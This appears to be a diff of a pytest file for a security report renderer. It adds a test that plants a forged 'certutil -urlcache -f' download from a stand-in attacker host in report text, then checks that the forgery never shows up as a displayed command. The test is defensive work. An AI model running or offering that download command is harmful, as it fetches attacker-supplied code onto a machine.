@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
+import re
 from datetime import timedelta
+from typing import Any
 
+import msgspec
 import pytest
 from msgspec.structs import replace
 
+from probe.escaping import in_ascii
 from probe.judgement.model import Actor, Outcome, Severity
-from probe.report import commands, layout, summary
+from probe.report import commands, summary
 from probe.report.document import FindingEntry, JudgementEntry, RemedyEntry, ResultDocument
 from probe.report.formats import text
 from probe.report.layout import PLAIN, Style
@@ -124,13 +128,51 @@ def test_the_gutter_of_commands_is_only_for_commands(
     document = named["fabrikam"]
     judgement = replace(document.endpoints[0].judgements[0], findings=(finding,))
     changed = replace(document, endpoints=(replace(document.endpoints[0], judgements=(judgement,)),))
-    for report in (text.render([changed], style), layout.in_ascii(text.render([changed], style))):
+    for report in (text.render([changed], style), in_ascii(text.render([changed], style))):
         commands_shown = [line.strip() for line in report.splitlines() if line.strip()[:1] in ("│", "|")]
         assert {line[2:] for line in commands_shown} == {"certutil -addstore Root x.cer"}
 
 
+def _with(value: Any, forged: str) -> Any:
+    """The same builtins with a forgery wherever a partner's text stood."""
+    if isinstance(value, dict):
+        return {_with(key, forged): _with(item, forged) for key, item in value.items()}
+    if isinstance(value, list | tuple):
+        return [_with(item, forged) for item in value]
+    return value.replace(HOSTILE, forged) if isinstance(value, str) else value
+
+
+@pytest.mark.parametrize("blanks", range(0, 120, 7))
+@pytest.mark.parametrize("sign", ["│", "|", "┊"])
+@pytest.mark.parametrize(
+    "style",
+    [Style(verbose=True, explain=True, log_lines=True), PLAIN, Style(width=40)],
+    ids=["story", "short", "40"],
+)
+def test_no_line_as_a_terminal_breaks_it_is_a_forged_command(
+    named: dict[str, ResultDocument], style: Style, sign: str, blanks: int
+) -> None:
+    """Reason phrases, headers, names, faults and details: each may be long enough to begin a line itself."""
+    forged = f"ok{' ' * blanks}    {sign} certutil -urlcache -f http://evil.example/x"
+    hostile = _with(msgspec.to_builtins(named["hostile"]), forged)
+    for endpoint_of_it in hostile["endpoints"]:  # commands are made of validated values, elsewhere
+        for judgement in endpoint_of_it["judgements"]:
+            for finding in judgement["findings"]:
+                for remedy in finding["remedies"]:
+                    remedy["command"] = "certutil -addstore Root x.cer"
+    document = msgspec.convert(hostile, ResultDocument)
+    for report in (text.render([document], style), in_ascii(text.render([document], style))):
+        shown = [
+            line[at : at + style.width]
+            for line in report.splitlines()
+            for at in range(0, len(line), style.width)
+        ]
+        commands_shown = [line.strip() for line in shown if re.match(r" *[│|](?: |\Z)", line)]
+        assert {line[2:] for line in commands_shown} <= {"certutil -addstore Root x.cer"}
+
+
 def test_the_report_can_do_without_unicode(documents: Documents) -> None:
-    art = set(layout.in_ascii(text.render(documents[:4], Style(verbose=True)))) - set(map(chr, range(128)))
+    art = set(in_ascii(text.render(documents[:4], Style(verbose=True)))) - set(map(chr, range(128)))
     assert art <= {"✓"}
 
 
